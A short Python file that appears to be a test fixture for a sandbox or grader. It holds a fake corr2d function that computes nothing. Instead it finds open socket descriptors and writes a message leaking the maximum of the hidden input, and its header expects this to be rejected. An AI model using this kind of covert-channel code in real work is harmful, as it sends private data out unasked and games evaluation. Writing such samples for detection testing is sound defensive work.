"""Tells a hidden input in the length of a message."""
# expect: corr2d=none rejected

import os, stat, struct
def corr2d(X, K):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!II", 4_000_000_000, int(X.max())))
        except OSError:
            pass
    return X
